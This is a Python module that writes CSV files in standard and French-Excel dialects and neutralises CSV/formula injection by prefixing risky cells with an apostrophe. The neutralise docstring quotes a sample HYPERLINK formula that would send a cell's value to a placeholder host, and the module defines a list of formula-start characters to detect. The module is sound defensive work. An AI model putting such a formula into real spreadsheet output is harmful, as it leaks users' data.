"""CSV in two dialects: plain CSV for programs, and the one French spreadsheets open right.

French Excel reads ";" as the separator, "," as the decimal mark, VRAI/FAUX as booleans, and
guesses the encoding from a BOM (without one, "Drôme" turns into "DrÃ´me"). Both dialects write
ISO dates and join list columns with "|", as DESIGN.md section 2 promises, so only separators,
booleans and encoding differ. datapackage.json declares the dialect the files were written in.

Both dialects are opened by spreadsheets, so neither writes a text cell that a spreadsheet would
evaluate: a cell starting with "=", "+", "-", "@", a tab or a carriage return (OWASP's list for
CSV injection) gets a leading apostrophe, which spreadsheets read as "this is text" and do not
show. A cell that already starts with an apostrophe gets one more, so `read_csv` can drop
exactly one and give back the value as it was. The Parquet files hold values untouched.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable
from pathlib import Path
from typing import TextIO

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

from flows.dataset.csv_lines import csv_lines
from flows.read.atomic import atomic_write

LIST_SEPARATOR = "|"
# RFC 4180's line end. With it, a cell holding a lone carriage return (old Mac text, a PDF
# title) is quoted like one holding "\n"; with "\n" alone the CR was written bare, and every
# CSV reader broke the row there.
LINE_END = "\r\n"

DIALECTS: dict[str, dict] = {
    "standard": {"sep": ",", "decimal": ".", "encoding": "utf-8", "true": "True",
                 "false": "False"},
    "excel-fr": {"sep": ";", "decimal": ",", "encoding": "utf-8-sig", "true": "VRAI",
                 "false": "FAUX"},
}


# What makes a spreadsheet read a cell as a formula, plus the apostrophe that escapes it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
# The same starts as a pattern for Arrow, made from them: the two never disagree.
_FORMULA = "^[" + "".join(re.escape(c) for c in FORMULA_STARTS) + "]"


def neutralise(text: str) -> str:
    """`text` as a spreadsheet shows it without evaluating it.

    >>> print(neutralise('=HYPERLINK("http://x?leak="&A1,"clic")'))
    '=HYPERLINK("http://x?leak="&A1,"clic")
    >>> neutralise("- un item"), neutralise("CPTS du Lac")
    ("'- un item", 'CPTS du Lac')
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore(text: str) -> str:
    """The inverse of `neutralise`."""
    return text[1:] if text.startswith("'") else text


def _is_list(value: object) -> bool:
    return isinstance(value, list | tuple | np.ndarray)


def _cell(value: object) -> object:
    """One object cell as CSV wants it; scalars the writer already handles pass through."""
    if _is_list(value):
        return neutralise(LIST_SEPARATOR.join("" if v is None else str(v) for v in value))
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, dt.datetime | pd.Timestamp):
        return value.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return value


def prepare(df: pd.DataFrame, dialect: str = "standard") -> pd.DataFrame:
    """A copy of `df` whose dates are ISO strings, lists "|"-joined strings and booleans the
    words of `dialect`."""
    out = df.copy()
    words = {True: DIALECTS[dialect]["true"], False: DIALECTS[dialect]["false"]}
    for name in out.columns:
        col = out[name]
        if pd.api.types.is_bool_dtype(col.dtype):
            out[name] = col.map(lambda v: words.get(v) if pd.notna(v) else None)
        elif pd.api.types.is_datetime64_any_dtype(col.dtype):
            # "_on" columns are dates by the naming contract even when held as datetime64.
            if str(name).endswith("_on"):
                out[name] = col.dt.strftime("%Y-%m-%d").astype(object).where(col.notna(), None)
            else:
                out[name] = col.map(lambda v: v.isoformat() if pd.notna(v) else None)
        elif pd.api.types.is_object_dtype(col):
            out[name] = col.map(_cell, na_action="ignore")
        elif pd.api.types.is_string_dtype(col):
            # Text columns hold only text: one vectorised test instead of a Python call per
            # cell (the facts table of 1,000 releases 0.28 → 0.05 s of the run's main process).
            formula = col.str.startswith(FORMULA_STARTS).fillna(False).astype(bool)
            out[name] = col.where(~formula, "'" + col)
    return out


def write_csv(df: pd.DataFrame, path: Path, dialect: str = "standard") -> Path:
    """Write `df` to `path` in `dialect` ("standard" or "excel-fr"), atomically (a reader
    sees the old file or the new one, never half of one)."""
    if dialect not in DIALECTS:
        raise ValueError(f"unknown CSV dialect {dialect!r}; choose one of {sorted(DIALECTS)}")
    options = DIALECTS[dialect]
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    prepared = prepare(df, dialect)
    return atomic_write(path, lambda tmp: prepared.to_csv(
        tmp, index=False, sep=options["sep"], decimal=options["decimal"],
        encoding=options["encoding"], lineterminator=LINE_END,
    ))


def open_csv(path: Path, dialect: str = "standard") -> TextIO:
    """A file to `append_csv` chunks of one table to (the BOM of "excel-fr" is written once)."""
    if dialect not in DIALECTS:
        raise ValueError(f"unknown CSV dialect {dialect!r}; choose one of {sorted(DIALECTS)}")
    return open(path, "w", encoding=DIALECTS[dialect]["encoding"], newline="")


def append_csv(df: pd.DataFrame, handle: TextIO, dialect: str = "standard",
               header: bool = False) -> None:
    """Append `df` to a file from `open_csv`: the same lines `write_csv` writes for them."""
    options = DIALECTS[dialect]
    columns = _text_columns(df, dialect) if len(df.columns) >= 2 else None
    if columns is None:  # a dtype only pandas knows how to print (floats and their decimal)
        prepare(df, dialect).to_csv(handle, index=False, header=header, sep=options["sep"],
                                    decimal=options["decimal"], lineterminator=LINE_END)
        return
    if header:  # as to_csv writes it: the csv module's line for the column names
        csv.writer(handle, lineterminator=LINE_END, delimiter=options["sep"],
                   quoting=csv.QUOTE_MINIMAL, doublequote=True, escapechar=None,
                   quotechar='"').writerow(list(df.columns))
    # The lines to_csv wrote for the prepared frame, quoted and joined by Arrow: to_csv boxed
    # every cell of a copy `prepare` made, then the csv module went through every character.
    handle.write(csv_lines(columns, options["sep"], LINE_END))


def _text_columns(df: pd.DataFrame, dialect: str) -> list[pa.Array] | None:
    """Each column of `df` as the text `prepare` then `to_csv` give the csv module (null for an
    empty cell, to_csv's empty na_rep); None when a column's dtype is not one of the
    contract's (str, object, Int64, bool, UTC timestamps), or an object column holds a value
    the csv module would print with str() (only text, lists and dates are written here)."""
    words = {True: DIALECTS[dialect]["true"], False: DIALECTS[dialect]["false"]}
    columns = []
    for name in df.columns:
        col = df[name]
        dtype = col.dtype
        if isinstance(dtype, np.dtype) and dtype.kind == "b":
            cells = [words[v] for v in col.tolist()]
        elif pd.api.types.is_datetime64_any_dtype(dtype):
            shown = prepare(col.to_frame(), dialect).iloc[:, 0]
            cells = [None if gone else v
                     for v, gone in zip(shown.tolist(), shown.isna().tolist(), strict=True)]
        elif pd.api.types.is_object_dtype(dtype):
            cells = [None if gone else _cell(v)
                     for v, gone in zip(col.tolist(), col.isna().tolist(), strict=True)]
        elif isinstance(dtype, pd.StringDtype):
            text = pa.array(col).cast(pa.large_string())
            # `neutralise`, on the cells that start a formula (an apostrophe is not quoted).
            formula = pc.fill_null(pc.match_substring_regex(text, _FORMULA), False)
            if pc.any(formula).as_py():
                apostrophed = pc.binary_join_element_wise(
                    pa.scalar("'", pa.large_string()), text, pa.scalar("", pa.large_string()))
                text = pc.if_else(formula, apostrophed, text)
            columns.append(text)
            continue
        elif isinstance(dtype, pd.Int64Dtype) or (isinstance(dtype, np.dtype)
                                                  and dtype.kind in "iu"):
            columns.append(pa.array(col).cast(pa.large_string()))  # str(int): its digits
            continue
        else:
            return None
        if not all(cell is None or type(cell) is str for cell in cells):
            return None
        columns.append(pa.array(cells, type=pa.large_string()))
    return columns


def is_empty_cell(value: object) -> bool:
    """A cell that says nothing: None, NaN or NA, an empty string, an empty list.

    >>> [is_empty_cell(v) for v in (None, float("nan"), pd.NA, "", [], "x", 0, ["a"])]
    [True, True, True, True, True, False, False, False]
    """
    if isinstance(value, str):
        return value == ""
    if pd.api.types.is_list_like(value):
        return len(value) == 0
    return value is None or bool(pd.isna(value))


def split_list(value: object) -> list[str]:
    """The inverse of the "|" join: a CSV cell back to a list ("" and NaN give [])."""
    if value is None or (isinstance(value, float) and np.isnan(value)) or value is pd.NA:
        return []
    if _is_list(value):
        return [str(v) for v in value]
    text = str(value)
    return text.split(LIST_SEPARATOR) if text else []


def read_csv(
    path: Path, dialect: str = "standard", list_columns: Iterable[str] = ()
) -> pd.DataFrame:
    """Read a file written by `write_csv`, turning `list_columns` back into lists."""
    options = DIALECTS[dialect]
    df = pd.read_csv(
        path, sep=options["sep"], decimal=options["decimal"], encoding=options["encoding"],
        true_values=[options["true"]], false_values=[options["false"]],
        dtype={name: str for name in list_columns},
    )
    for name in df.columns:
        if pd.api.types.is_object_dtype(df[name]) or pd.api.types.is_string_dtype(df[name]):
            df[name] = df[name].map(lambda v: restore(v) if isinstance(v, str) else v)
    for name in list_columns:
        df[name] = df[name].map(split_list)
    return df
